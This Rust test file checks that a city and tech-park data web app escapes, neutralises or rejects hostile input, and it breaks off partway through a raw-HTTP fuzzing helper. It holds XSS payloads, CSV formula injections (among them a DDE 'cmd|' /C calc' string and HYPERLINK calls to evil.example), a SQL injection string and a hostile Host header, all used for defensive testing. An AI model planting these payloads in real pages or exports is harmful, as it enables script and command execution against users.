//! Hostile input, proved handled rather than hoped for: markup and formulas planted in the
//! data come out escaped on every page, verbatim in JSON and neutralised in CSV; random and
//! malicious requests never get a 5xx or a broken answer; malformed CSV never crashes the
//! importer, is reported precisely and leaves the database as it was.

#[path = "../common/mod.rs"]
mod common;

use std::time::Duration;

use clusterscope::dataset::{FolderDataset, ImportMode, Provenance, import};
use common::html::{assert_inert, assert_svg_geometry_is_finite, element_texts, escaped, inert, svgs};
use common::{TestServer, dataset, import_folder, loaded_db, snapshot};
use proptest::prelude::*;
use proptest::test_runner::{Config, TestCaseError, TestRunner};
use sqlx::SqlitePool;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

// ---------------------------------------------------------------------------------------------
// Payloads planted in the data. Each is unique (no one's escaped form is part of another's), so
// finding one on a page proves that this very field was rendered there.

const CITY: &str = "evil-city";
const PARK: &str = "evil-park";
const COMPANY: &str = "evil-co";
const SOURCE: &str = "hostile-src";
const METRIC: &str = "hostile_index";

const CITY_NAME: &str = "=HYPERLINK(\"http://evil.example/name\") <script>alert('name')</script> & Co";
const COUNTRY: &str = "+Nowhere \"><img src=x onerror=alert('country')>";
const REGION: &str = "Evil region <svg onload=alert('region')>";
const POPULATION_SCOPE: &str = "~scope </style><b>scope</b>";
const SUMMARY: &str = "javascript:alert('summary') </title><script>alert('summary')</script> {{7*7}} </style> the end";
const SOURCE_TITLE: &str = "=cmd|' /C calc'!A0 <script>alert('title')</script> \"Report\"";
const SOURCE_PUBLISHER: &str = "@evil \"><img src=x onerror=alert('publisher')> Press";
const SOURCE_URL: &str = "https://evil.example\"><svg/onload=alert('url')>/r?a=1&b=2";
const METRIC_LABEL: &str = "-1+1 <svg onload=alert('label')> index";
const METRIC_DESCRIPTION: &str = "</style><script>alert('description')</script>";
const PARK_NAME: &str = "<svg onload=alert('park')> Park \"One\" & 'Two'";
const PARK_QUOTE: &str = "'; DROP TABLE parks; -- <script>alert('park quote')</script>";
const COMPANY_NAME: &str = "\"><img src=x onerror=alert('company')> Corp";
const COMPANY_HQ: &str = "</title><script>alert('hq')</script>";
const COMPANY_QUOTE: &str = "{{7*7}} </style><b>company quote</b>";
const SECTOR_QUOTE: &str = "<svg onload=alert('sector')> known for BPO";
const Q_POPULATION: &str = "=HYPERLINK(\"http://evil\")";
const Q_REVENUE_2019: &str = "+cmd|' /C calc'!A0";
const Q_REVENUE_2020: &str = "\"><img src=x onerror=alert('revenue')>";
const Q_EMPLOYEES_2019: &str = "@SUM(1)";
const Q_EMPLOYEES_2020: &str = "-2+3";
const Q_RANK: &str = "<script>alert('rank')</script>";
const Q_COMPANIES: &str = "</title><script>alert('companies')</script>";
const Q_INDEX: &str = "javascript:alert('index') {{7*7}}";
/// Why the data changed, as an admin or `import --reason` gives it: shown on /changes.
const CHANGE_REASON: &str = "<script>alert('reason')</script> \"fixed\" & re-sourced";
/// Who changed it: never shown on a public page.
const CHANGE_ACTOR: &str = "actor-never-shown <svg onload=alert('actor')>";

const PAYLOADS: [&str; 25] = [
    CITY_NAME,
    COUNTRY,
    REGION,
    POPULATION_SCOPE,
    SUMMARY,
    SOURCE_TITLE,
    SOURCE_PUBLISHER,
    SOURCE_URL,
    METRIC_LABEL,
    METRIC_DESCRIPTION,
    PARK_NAME,
    PARK_QUOTE,
    COMPANY_NAME,
    COMPANY_HQ,
    COMPANY_QUOTE,
    SECTOR_QUOTE,
    Q_POPULATION,
    Q_REVENUE_2019,
    Q_REVENUE_2020,
    Q_EMPLOYEES_2019,
    Q_EMPLOYEES_2020,
    Q_RANK,
    Q_COMPANIES,
    Q_INDEX,
    CHANGE_REASON,
];

/// Every metric quote of the hostile city, by metric and year.
const QUOTES: [(&str, i64, &str); 8] = [
    ("population", 2020, Q_POPULATION),
    ("it_revenue_usd", 2019, Q_REVENUE_2019),
    ("it_revenue_usd", 2020, Q_REVENUE_2020),
    ("it_employees", 2019, Q_EMPLOYEES_2019),
    ("it_employees", 2020, Q_EMPLOYEES_2020),
    ("tholons_rank", 2019, Q_RANK),
    ("it_companies", 2020, Q_COMPANIES),
    (METRIC, 2020, Q_INDEX),
];

/// A CSV file: the header as written, then `rows` quoted by the `csv` crate as RFC 4180 says.
fn csv_file(header: &str, rows: &[Vec<&str>]) -> String {
    let mut w = csv::Writer::from_writer(Vec::new());
    for row in rows {
        w.write_record(row).unwrap();
    }
    format!("{header}\n{}", String::from_utf8(w.into_inner().unwrap()).unwrap())
}

/// A dataset with a new source, metric, city (metrics of five families), park, company and
/// sector statement, every text field of which carries a payload.
fn hostile_dataset() -> tempfile::TempDir {
    let metrics: Vec<[String; 7]> = QUOTES
        .iter()
        .map(|&(metric, year, quote)| {
            let (value, unit) = match (metric, year) {
                ("population", _) => ("1234567", "persons"),
                ("it_revenue_usd", 2019) => ("5000000000", "USD"),
                ("it_revenue_usd", _) => ("6000000000", "USD"),
                ("it_employees", 2019) => ("40000", "persons"),
                ("it_employees", _) => ("45000", "persons"),
                ("tholons_rank", _) => ("50", "rank"),
                ("it_companies", _) => ("300", "count"),
                _ => ("7", "count"),
            };
            [CITY, metric, &year.to_string(), value, unit, SOURCE, quote].map(String::from)
        })
        .collect();
    let metrics: Vec<Vec<&str>> = metrics.iter().map(|r| r.iter().map(String::as_str).collect()).collect();
    let files = [
        (
            "sources.csv",
            csv_file(
                "id,title,publisher,url,published_year,accessed",
                &[vec![SOURCE, SOURCE_TITLE, SOURCE_PUBLISHER, SOURCE_URL, "2024", "2026-11-28"]],
            ),
        ),
        (
            "metric_definitions.csv",
            csv_file(
                "metric,label,unit,family,scope,higher_is_better,description",
                &[vec![METRIC, METRIC_LABEL, "count", METRIC, "city", "true", METRIC_DESCRIPTION]],
            ),
        ),
        (
            "cities.csv",
            csv_file(
                "slug,name,country,region,population,population_year,population_scope,lat,lon,summary,source_id",
                &[vec![
                    CITY,
                    CITY_NAME,
                    COUNTRY,
                    REGION,
                    "1234567",
                    "2020",
                    POPULATION_SCOPE,
                    "10.5",
                    "20.5",
                    SUMMARY,
                    SOURCE,
                ]],
            ),
        ),
        (
            "parks.csv",
            csv_file(
                "slug,city_slug,name,opened_year,area_km2,companies,employees,foreign_share,source_id,quote",
                &[vec![PARK, CITY, PARK_NAME, "2001", "2.5", "40", "1000", "0.3", SOURCE, PARK_QUOTE]],
            ),
        ),
        (
            "companies.csv",
            csv_file(
                "slug,name,city_slug,park_slug,sector,hq_country,founded_or_arrived_year,employees_in_city,\
                 revenue_usd,revenue_year,source_id,quote",
                &[vec![
                    COMPANY,
                    COMPANY_NAME,
                    CITY,
                    PARK,
                    "bpo",
                    COMPANY_HQ,
                    "2005",
                    "500",
                    "1000000",
                    "2020",
                    SOURCE,
                    COMPANY_QUOTE,
                ]],
            ),
        ),
        (
            "sectors.csv",
            csv_file("city_slug,sector,evidence_source_id,quote", &[vec![CITY, "bpo", SOURCE, SECTOR_QUOTE]]),
        ),
        ("metrics.csv", csv_file(METRICS_HEADER, &metrics)),
    ];
    let files: Vec<(&str, &str)> = files.iter().map(|(name, text)| (*name, text.as_str())).collect();
    dataset(&files)
}

/// The bundled data plus the hostile dataset (imported with a hostile reason and actor), served
/// over HTTP.
async fn hostile_server() -> TestServer {
    let (dir, pool) = loaded_db().await;
    let folder = hostile_dataset();
    let provenance = Provenance { actor: CHANGE_ACTOR, reason: CHANGE_REASON };
    let report =
        import(&pool, &FolderDataset::new(folder.path()).unwrap(), ImportMode::Apply, provenance).await.unwrap();
    assert!(report.problems.is_empty(), "{:?}", report.problems);
    assert!(report.applied);
    TestServer::serve(dir, pool).await
}

/// Percent-encodes every byte outside the unreserved set, as a browser would a form value.
fn pct(bytes: &[u8]) -> String {
    let mut out = String::new();
    for &b in bytes {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~') {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

fn pct_decode(text: &str) -> Vec<u8> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%'
            && i + 2 < b.len()
            && let Some(v) = std::str::from_utf8(&b[i + 1..i + 3]).ok().and_then(|h| u8::from_str_radix(h, 16).ok())
        {
            out.push(v);
            i += 3;
            continue;
        }
        out.push(b[i]);
        i += 1;
    }
    out
}

// ---------------------------------------------------------------------------------------------
// 1. Payloads in the data

#[test]
fn the_payloads_are_distinct_so_each_check_names_one_field() {
    for (i, a) in PAYLOADS.iter().enumerate() {
        for (j, b) in PAYLOADS.iter().enumerate() {
            if i != j {
                assert!(!escaped(b).contains(&escaped(a)), "{a:?} is part of {b:?}");
            }
        }
    }
}

#[test]
fn the_checkers_catch_what_they_look_for() {
    let page =
        |body: &str| format!("<!doctype html>\n<html><head><title>t</title></head><body><p>{body}</p></body></html>");
    // Every payload with markup passes escaped and is caught raw.
    for payload in PAYLOADS {
        assert_eq!(inert(payload, &page(&escaped(payload)), 0), Ok(()));
        if payload.contains('<') {
            assert!(inert(payload, &page(payload), 0).is_err(), "{payload:?} raw is not caught");
        }
    }
    // What the plain substring checks would miss, the tokenizer catches.
    for raw in [
        "<svg\tonload=alert(1)>",
        "<span onmouseover=alert(1)>x</span>",
        "<a href=\"java&#x73;cript:alert(1)\">x</a>",
        "<a href=' &#106;avascript:alert(1)'>x</a>",
        "<a href=\"\tjavascript:alert(1)\">x</a>",
        "<span style=\"background:url(x)\">x</span>",
        "<marquee>x</marquee>",
        "x</style>y",
        "</title>",
        "<details>unclosed",
    ] {
        assert!(inert(raw, &page(raw), 0).is_err(), "{raw:?} is not caught");
    }
    assert!(inert("style", "<html><style>a>b{}</style></html>", 1).is_ok());
    assert!(inert("style", "<html><style>a>b{}</style></html>", 0).is_err());

    let rows = |cells: &[&str]| vec![cells.iter().map(|c| c.to_string()).collect::<Vec<String>>()];
    assert_eq!(
        formula_cells(&rows(&["=1+1", "+cmd", "-2+3", "@SUM(1)", "\t=1", "'=1", "-0.1275", "+3", "1e9", "x"])),
        ["=1+1", "+cmd", "-2+3", "@SUM(1)", "\t=1"]
    );
    assert_eq!(neutralised("-2+3"), "'-2+3");

    assert!(machine_route("/cities.json") && machine_route("/compare.csv"));
    assert!(machine_route("/cities/dalian.json") && machine_route("/cities/x%2Ecsv"));
    assert!(!machine_route("/cities") && !machine_route("/cities/") && !machine_route("/cities/a/b.json"));
    assert!(!machine_route("/cities%2Ejson") && !machine_route("/parks/x.json"));
    assert_eq!(pct_decode("a%2Fb%zz%4"), b"a/b%zz%4");
    assert_eq!(pct(b"a b/\xff"), "a%20b%2F%FF");
}

#[tokio::test]
async fn payloads_in_the_data_are_escaped_on_every_page() {
    let s = hostile_server().await;
    let both = format!("city={CITY}&city=dalian");
    let every_quote = [
        Q_POPULATION,
        Q_REVENUE_2019,
        Q_REVENUE_2020,
        Q_EMPLOYEES_2019,
        Q_EMPLOYEES_2020,
        Q_RANK,
        Q_COMPANIES,
        Q_INDEX,
    ];
    let source = [SOURCE_TITLE, SOURCE_PUBLISHER, SOURCE_URL];
    let pages: Vec<(String, Vec<&str>)> = vec![
        ("/".into(), vec![CITY_NAME]),
        (
            format!("/?{both}"),
            [
                &[
                    CITY_NAME,
                    COUNTRY,
                    REGION,
                    PARK_NAME,
                    PARK_QUOTE,
                    SECTOR_QUOTE,
                    Q_REVENUE_2019,
                    Q_REVENUE_2020,
                    Q_EMPLOYEES_2019,
                    Q_EMPLOYEES_2020,
                    Q_RANK,
                ][..],
                &source,
            ]
            .concat(),
        ),
        ("/cities".into(), [&[CITY_NAME, COUNTRY, REGION][..], &source].concat()),
        ("/cities?sector=bpo".into(), [&[CITY_NAME, COUNTRY, REGION][..], &source].concat()),
        (format!("/cities?country={}", pct(COUNTRY.as_bytes())), [&[CITY_NAME, COUNTRY, REGION][..], &source].concat()),
        (
            format!("/cities/{CITY}"),
            [
                &[
                    CITY_NAME,
                    COUNTRY,
                    REGION,
                    POPULATION_SCOPE,
                    SUMMARY,
                    METRIC_LABEL,
                    METRIC_DESCRIPTION,
                    PARK_NAME,
                    PARK_QUOTE,
                    COMPANY_NAME,
                    COMPANY_HQ,
                    COMPANY_QUOTE,
                    SECTOR_QUOTE,
                ][..],
                &every_quote,
                &source,
            ]
            .concat(),
        ),
        (
            format!("/parks/{PARK}"),
            [&[CITY_NAME, PARK_NAME, PARK_QUOTE, COMPANY_NAME, COMPANY_HQ, COMPANY_QUOTE][..], &source].concat(),
        ),
        ("/companies".into(), [&[CITY_NAME, PARK_NAME, COMPANY_NAME, COMPANY_HQ, COMPANY_QUOTE][..], &source].concat()),
        (
            format!("/companies?city={CITY}"),
            [&[CITY_NAME, PARK_NAME, COMPANY_NAME, COMPANY_HQ, COMPANY_QUOTE][..], &source].concat(),
        ),
        ("/sources".into(), source.to_vec()),
        ("/changes".into(), vec![CHANGE_REASON]),
        (
            format!("/sources/{SOURCE}"),
            [
                &[CITY_NAME, METRIC_LABEL, PARK_NAME, PARK_QUOTE, COMPANY_NAME, COMPANY_QUOTE, SECTOR_QUOTE][..],
                &every_quote,
                &source,
            ]
            .concat(),
        ),
        (
            format!("/compare?{both}"),
            [
                &[CITY_NAME, METRIC_LABEL, Q_POPULATION, Q_REVENUE_2020, Q_EMPLOYEES_2020, Q_RANK, Q_COMPANIES][..],
                &source,
            ]
            .concat(),
        ),
        (
            format!("/compare?{both}&metric={METRIC}&metric=population"),
            [&[CITY_NAME, METRIC_LABEL, METRIC_DESCRIPTION, Q_POPULATION, Q_INDEX][..], &source].concat(),
        ),
        (
            format!("/compare/export?{both}"),
            [&[CITY_NAME, Q_POPULATION, Q_REVENUE_2020, Q_EMPLOYEES_2020, Q_RANK, Q_COMPANIES][..], &source].concat(),
        ),
    ];
    for (path, expected) in &pages {
        let r = s.get(path).await;
        assert_eq!(r.status, 200, "{path}: {}", r.body);
        assert!(r.header("content-type").starts_with("text/html"), "{path}");
        let export = path.starts_with("/compare/export");
        assert_inert(path, &r.body, usize::from(export));
        for payload in expected {
            assert!(r.body.contains(&escaped(payload)), "{path}: the escaped form of {payload:?} is missing");
        }
        // Template syntax in the data is text, never evaluated.
        if expected.iter().any(|p| p.contains("{{7*7}}")) {
            assert!(r.body.contains("{{7*7}}"), "{path}");
        }
    }

    // Who made a change is not public.
    let changes = s.get("/changes").await.body;
    assert!(!changes.contains("actor-never-shown"), "/changes shows who made the change");

    // The charts: the city's name is in every description, escaped, and the park's name in a
    // title of the park charts; nothing inside an SVG is live markup.
    for path in [format!("/?{both}"), format!("/compare?{both}"), format!("/compare/export?{both}")] {
        let r = s.get(&path).await;
        let charts = svgs(&r.body);
        assert!(charts.len() >= 4, "{path}: {} charts", charts.len());
        let name = escaped(CITY_NAME);
        let mut described = 0;
        for svg in &charts {
            assert_inert(&path, svg, 0);
            let descs = element_texts(svg, "desc");
            let titles = element_texts(svg, "title");
            assert_eq!(descs.len(), 1, "{path}: one description per chart");
            for text in descs.iter().chain(&titles) {
                assert!(!text.contains('<') && !text.contains('>'), "{path}: markup in {text:?}");
            }
            if descs[0].contains(&name) {
                described += 1;
            }
        }
        let expected = if path.starts_with("/?") {
            // revenue (USD), workforce, ranks and the sector matrix show the hostile city.
            4
        } else {
            charts.len()
        };
        assert!(
            described >= expected,
            "{path}: the city is named in {described} of {} chart descriptions",
            charts.len()
        );
        if path.starts_with("/?") {
            let park = escaped(PARK_NAME);
            assert!(
                charts.iter().any(|svg| element_texts(svg, "title").iter().any(|t| t.contains(&park))),
                "{path}: the park is named in a park chart"
            );
        }
    }
}

#[tokio::test]
async fn payloads_in_the_data_come_back_verbatim_as_json_strings() {
    let s = hostile_server().await;
    let json = |path: String| {
        let s = &s;
        async move {
            let r = s.get(&path).await;
            assert_eq!(r.status, 200, "{path}");
            assert!(r.header("content-type").starts_with("application/json"), "{path}");
            let v: serde_json::Value = serde_json::from_str(&r.body).unwrap_or_else(|e| panic!("{path}: {e}"));
            v
        }
    };
    let str_of = |v: &serde_json::Value| v.as_str().unwrap_or_else(|| panic!("not a string: {v}")).to_string();

    let v = json(format!("/compare.json?city={CITY}&city=dalian&metric={METRIC}&metric=population")).await;
    let city = &v["cities"][0];
    assert_eq!(city["slug"], CITY);
    for (key, payload) in [
        ("name", CITY_NAME),
        ("country", COUNTRY),
        ("region", REGION),
        ("population_scope", POPULATION_SCOPE),
        ("summary", SUMMARY),
    ] {
        assert_eq!(str_of(&city[key]), payload, "compare.json city {key}");
    }
    let metric = v["metrics"].as_array().unwrap().iter().find(|m| m["metric"] == METRIC).expect("the hostile metric");
    assert_eq!(str_of(&metric["label"]), METRIC_LABEL);
    assert_eq!(str_of(&metric["description"]), METRIC_DESCRIPTION);
    let quotes: Vec<String> =
        v["figures"].as_array().unwrap().iter().filter(|f| f["city"] == CITY).map(|f| str_of(&f["quote"])).collect();
    assert!(quotes.contains(&Q_INDEX.to_string()) && quotes.contains(&Q_POPULATION.to_string()), "{quotes:?}");
    let source = v["sources"].as_array().unwrap().iter().find(|x| x["id"] == SOURCE).expect("the hostile source");
    assert_eq!(str_of(&source["title"]), SOURCE_TITLE);
    assert_eq!(str_of(&source["publisher"]), SOURCE_PUBLISHER);
    assert_eq!(str_of(&source["url"]), SOURCE_URL);

    let v = json(format!("/compare.json?city={CITY}&city=dalian")).await;
    let quotes: Vec<String> =
        v["figures"].as_array().unwrap().iter().filter(|f| f["city"] == CITY).map(|f| str_of(&f["quote"])).collect();
    for q in [Q_POPULATION, Q_REVENUE_2020, Q_EMPLOYEES_2020, Q_RANK, Q_COMPANIES] {
        assert!(quotes.contains(&q.to_string()), "compare.json lacks {q:?}: {quotes:?}");
    }

    let v = json(format!("/cities/{CITY}.json")).await;
    for (key, payload) in [
        ("name", CITY_NAME),
        ("country", COUNTRY),
        ("region", REGION),
        ("population_scope", POPULATION_SCOPE),
        ("summary", SUMMARY),
    ] {
        assert_eq!(str_of(&v[key]), payload, "city json {key}");
    }
    let mut quotes: Vec<(String, i64, String)> = v["figures"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (str_of(&f["metric"]), f["year"].as_i64().unwrap(), str_of(&f["quote"])))
        .collect();
    quotes.sort();
    let mut expected: Vec<(String, i64, String)> =
        QUOTES.iter().map(|(m, y, q)| (m.to_string(), *y, q.to_string())).collect();
    expected.sort();
    assert_eq!(quotes, expected, "every figure's quote, verbatim");
    assert_eq!(str_of(&v["parks"][0]["name"]), PARK_NAME);
    assert_eq!(str_of(&v["parks"][0]["quote"]), PARK_QUOTE);
    assert_eq!(str_of(&v["companies"][0]["name"]), COMPANY_NAME);
    assert_eq!(str_of(&v["companies"][0]["hq_country"]), COMPANY_HQ);
    assert_eq!(str_of(&v["companies"][0]["quote"]), COMPANY_QUOTE);
    assert_eq!(str_of(&v["sectors"][0]["quote"]), SECTOR_QUOTE);
    let source = v["sources"].as_array().unwrap().iter().find(|x| x["id"] == SOURCE).unwrap();
    assert_eq!(str_of(&source["title"]), SOURCE_TITLE);

    let v = json("/cities.json".into()).await;
    let city = v["cities"].as_array().unwrap().iter().find(|c| c["slug"] == CITY).expect("the hostile city is listed");
    for (key, payload) in [("name", CITY_NAME), ("country", COUNTRY), ("region", REGION), ("summary", SUMMARY)] {
        assert_eq!(str_of(&city[key]), payload, "cities.json {key}");
    }
}

/// True for a cell a spreadsheet reads as a plain number (`-0.1275`), which is not a formula.
fn is_plain_number(cell: &str) -> bool {
    cell.bytes().all(|b| b.is_ascii_digit() || matches!(b, b'.' | b'e' | b'E' | b'-' | b'+'))
        && cell.parse::<f64>().is_ok_and(f64::is_finite)
}

/// Parses a CSV answer: every record as wide as the header, and no cell that a spreadsheet
/// would run as a formula.
fn parse_safe_csv(what: &str, body: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let mut rows = Vec::new();
    for record in reader.records() {
        let record = record.unwrap_or_else(|e| panic!("{what}: {e}"));
        assert_eq!(record.len(), header.len(), "{what}: {record:?}");
        rows.push(record.iter().map(String::from).collect::<Vec<String>>());
    }
    let formulas = formula_cells(&rows);
    assert!(formulas.is_empty(), "{what}: cells a spreadsheet would run: {formulas:?}");
    (header, rows)
}

/// Cells that start like a formula (`= + - @`, tab, carriage return) and are not plain numbers.
fn formula_cells(rows: &[Vec<String>]) -> Vec<&str> {
    rows.iter()
        .flatten()
        .map(String::as_str)
        .filter(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(cell))
        .collect()
}

/// What a formula payload must look like in a CSV cell: prefixed with `'`; other text as is.
fn neutralised(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@']) { format!("'{text}") } else { text.to_string() }
}

#[tokio::test]
async fn formula_payloads_are_neutralised_in_every_csv() {
    let s = hostile_server().await;
    for path in [
        format!("/compare.csv?city={CITY}&city=dalian"),
        format!("/compare.csv?city={CITY}&city=dalian&metric={METRIC}&metric=it_employees"),
        format!("/cities/{CITY}.csv"),
    ] {
        let r = s.get(&path).await;
        assert_eq!(r.status, 200, "{path}");
        assert!(r.header("content-type").starts_with("text/csv"), "{path}");
        let (header, rows) = parse_safe_csv(&path, &r.body);
        let col = |name: &str| header.iter().position(|h| h == name).unwrap();
        let ours: Vec<&Vec<String>> = rows.iter().filter(|row| row[col("city")] == CITY).collect();
        assert!(!ours.is_empty(), "{path}: the hostile city's figures");
        for row in &ours {
            assert_eq!(row[col("city_name")], neutralised(CITY_NAME), "{path}");
            assert_eq!(row[col("source_title")], neutralised(SOURCE_TITLE), "{path}");
            assert_eq!(row[col("source_publisher")], neutralised(SOURCE_PUBLISHER), "{path}");
            assert_eq!(row[col("source_url")], SOURCE_URL, "{path}");
            let (metric, year) = (&row[col("metric")], row[col("year")].parse::<i64>().unwrap());
            let quote = QUOTES.iter().find(|(m, y, _)| m == metric && *y == year).map(|(_, _, q)| *q).unwrap();
            assert_eq!(row[col("quote")], neutralised(quote), "{path}: {metric} {year}");
            if metric == METRIC {
                assert_eq!(row[col("label")], neutralised(METRIC_LABEL), "{path}");
            }
        }
    }
    // The whole city file holds every quote, each formula one neutralised.
    let (header, rows) = parse_safe_csv("city csv", &s.get(&format!("/cities/{CITY}.csv")).await.body);
    let quote = header.iter().position(|h| h == "quote").unwrap();
    let mut got: Vec<&str> = rows.iter().map(|r| r[quote].as_str()).collect();
    got.sort();
    let mut want: Vec<String> = QUOTES.iter().map(|(_, _, q)| neutralised(q)).collect();
    want.sort();
    assert_eq!(got, want);
    assert!(want.contains(&"'=HYPERLINK(\"http://evil\")".to_string()));
    assert!(want.contains(&"'+cmd|' /C calc'!A0".to_string()));
    assert!(want.contains(&"'@SUM(1)".to_string()));
    assert!(want.contains(&"'-2+3".to_string()));

    let r = s.get("/cities.csv").await;
    assert_eq!(r.status, 200);
    let (header, rows) = parse_safe_csv("/cities.csv", &r.body);
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let row = rows.iter().find(|r| r[col("slug")] == CITY).expect("the hostile city");
    for (column, payload) in [
        ("name", CITY_NAME),
        ("country", COUNTRY),
        ("region", REGION),
        ("population_scope", POPULATION_SCOPE),
        ("summary", SUMMARY),
    ] {
        assert_eq!(row[col(column)], neutralised(payload), "/cities.csv {column}");
    }
    // London's longitude is a negative number: a number, not a formula, and left as it is.
    let london = rows.iter().find(|r| r[col("slug")] == "london").unwrap();
    assert!(london[col("lon")].starts_with('-'), "{london:?}");
}

/// Addresses a reader must not be sent to (a script, a page made of data, no scheme, nothing).
const BAD_URLS: [&str; 8] = [
    "javascript:alert(4)",
    "JavaScript://example.org/%0Aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://example.org/a b",
    "//evil.example/x",
    "https://",
    "  javascript:alert(1)",
];

#[tokio::test]
async fn source_addresses_that_are_not_web_links_are_rejected() {
    let ids: Vec<String> = (1..=BAD_URLS.len()).map(|i| format!("s{i}")).collect();
    let (_dir, pool) = loaded_db().await;
    let before = snapshot(&pool).await;
    let folder = dataset(&[(
        "sources.csv",
        &csv_file(
            "id,title,publisher,url,accessed",
            &ids.iter().zip(BAD_URLS).map(|(id, url)| vec![id, "T", "P", url, "2026-11-28"]).collect::<Vec<_>>(),
        ),
    )]);
    let report = import_folder(&pool, folder.path()).await;
    let lines: Vec<String> = report.problems.iter().map(|p| p.to_string()).collect();
    assert!(!report.applied);
    let expected: Vec<String> = (2..=BAD_URLS.len() + 1).map(|line| format!("sources.csv:{line}: url: ")).collect();
    assert_eq!(lines.len(), expected.len(), "{lines:#?}");
    for (line, prefix) in lines.iter().zip(&expected) {
        assert!(line.starts_with(prefix), "{line} should start with {prefix}");
        assert!(line.contains("is not an http:// or https:// address"), "{line}");
    }
    assert_eq!(snapshot(&pool).await, before);
}

#[tokio::test]
async fn a_hostile_host_header_is_escaped_in_the_exported_file() {
    let s = TestServer::start().await;
    let addr = s.base.trim_start_matches("http://");
    let host = b"evil.example\"><script>alert('host')</script><a href=\"javascript:alert(1)";
    let answer =
        send(addr, "/compare/export?city=dalian&city=berlin", &[("Host".into(), host.to_vec())], false).await.unwrap();
    assert_eq!(answer.status, 200);
    let html = answer.text();
    assert_inert("export with a hostile Host", &html, 1);
    assert!(html.contains(&escaped(std::str::from_utf8(host).unwrap())), "the address it came from is shown, escaped");
}

// ---------------------------------------------------------------------------------------------
// 2. Random and malicious requests, sent byte for byte over a raw socket (a client library
// would normalise or refuse some of them).

/// Bytes, shown as an escaped byte string when a generated case fails.
#[derive(Clone)]
struct Raw(Vec<u8>);

impl std::fmt::Debug for Raw {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "b\"{}\"", self.0.escape_ascii())
    }
}

#[derive(Debug)]
struct Answer {
    status: u16,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Answer {
    fn header(&self, name: &str) -> &str {
        self.headers.iter().find(|(n, _)| n.eq_ignore_ascii_case(name)).map_or("", |(_, v)| v.as_str())
    }

    fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

/// One `GET target` on a fresh connection; `Host` is the server's address unless `host` is
/// false (then only the given headers are sent).
async fn send(addr: &str, target: &str, headers: &[(String, Vec<u8>)], host: bool) -> Result<Answer, String> {
    let mut request = format!("GET {target} HTTP/1.1\r\n").into_bytes();
    if host {
        request.extend_from_slice(format!("Host: {addr}\r\n").as_bytes());
    }
    for (name, value) in headers {
        request.extend_from_slice(name.as_bytes());
        request.extend_from_slice(b": ");
        request.extend_from_slice(value);
        request.extend_from_slice(b"\r\n");
    }
    request.extend_from_slice(b"Connection: close\r\n\r\n");
    let exchange = async {
        let mut stream = tokio::net::TcpStream::connect(addr).await?;
        stream.write_all(&request).await?;
        let mut raw = Vec::new();
        stream.read_to_end(&mut raw).await?;
        Ok::<_, std::io::Error>(raw)
    };
    let raw = tokio::time::timeout(Duration::from_secs(20), exchange)
        .await
        .map_err(|_| format!("no answer within 20 s to GET {target}"))?
        .map_err(|e| format!("GET {target}: {e}"))?;
    parse_answer(&raw).ok_or_else(|| format!("GET {target}: not an HTTP answer: {:?}", String::from_utf8_lossy(&raw)))
}

fn parse_answer(raw: &[u8]) -> Option<Answer> {
    let end = raw.windows(4).position(|w| w == b"\r\n\r\n")?;
    let head = std::str::from_utf8(&raw[..end]).ok()?;
    let mut lines = head.split("\r\n");
    let status: u16 = lines.next()?.split(' ').nth(1)?.parse().ok()?;
    let headers: Vec<(String, String)> = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(n, v)| (n.trim().to_ascii_lowercase(), v.trim().to_string()))
        .collect();
    let mut rest = &raw[end + 4..];
    let chunked = headers.iter().any(|(n, v)| n == "transfer-encoding" && v.eq_ignore_ascii_case("chunked"));
    let body = if chunked {
        let mut body = Vec::new();
        loop {
            let line_end = rest.windows(2).position(|w| w == b"\r\n")?;
            let size_text = std::str::from_utf8(&rest[..line_end]).ok()?;
            let size = usize::from_str_radix(size_text.split(';').next()?.trim(), 16).ok()?;
            rest = &rest[line_end + 2..];
            if size == 0 {
                break;
            }
            body.extend_from_slice(rest.get(..size)?);
            rest = rest.get(size + 2..)?;
        }
        body
    } else if let Some((_, len)) = headers.iter().find(|(n, _)| n == "content-length") {
        rest.get(..len.parse::<usize>().ok()?)?.to_vec()
    } else {
        rest.to_vec()
    };
    Some(Answer { status, headers, body })
}

/// Whether the router sends `path` (raw, as on the wire) to a machine-readable route, whose
/// errors are JSON: `/cities.json`, `/compare.csv`, …, and `/cities/{slug}` when the decoded
/// slug ends in `.json` or `.csv`.
fn machine_route(path: &str) -> bool {
    if matches!(
        path,
        "/cities.json"
            | "/cities.csv"
            | "/compare.json"
            | "/compare.csv"
            | "/companies.json"
            | "/companies.csv"
            | "/search.json"
    ) {
        return true;
    }
    match path.strip_prefix("/cities/") {
        Some(seg) if !seg.is_empty() && !seg.contains('/') => {
            let slug = String::from_utf8_lossy(&pct_decode(seg)).into_owned();
            slug.ends_with(".json") || slug.ends_with(".csv")
        }
        _ => false,
    }
}

/// The answer to `GET target` is one the app means: never a 5xx; a 2xx or 4xx HTML answer is a
/// complete, inert page; a 4xx on a machine-readable route is a JSON error; 2xx JSON and CSV
/// parse.
fn check_answer(target: &str, a: &Answer) -> Result<(), TestCaseError> {
    let path = target.split('?').next().unwrap_or(target);
    let shown: String = match target.char_indices().nth(200) {
        Some((cut, _)) => format!("{}… ({} bytes)", &target[..cut], target.len()),
        None => target.to_string(),
    };
    let machine = machine_route(path);
    let content_type = a.header("content-type").to_ascii_lowercase();
    let body = a.text();
    let short: String = body.chars().take(300).collect();
    prop_assert!(
        (200..500).contains(&a.status) && !(300..400).contains(&a.status),
        "GET {shown}: status {}: {short}",
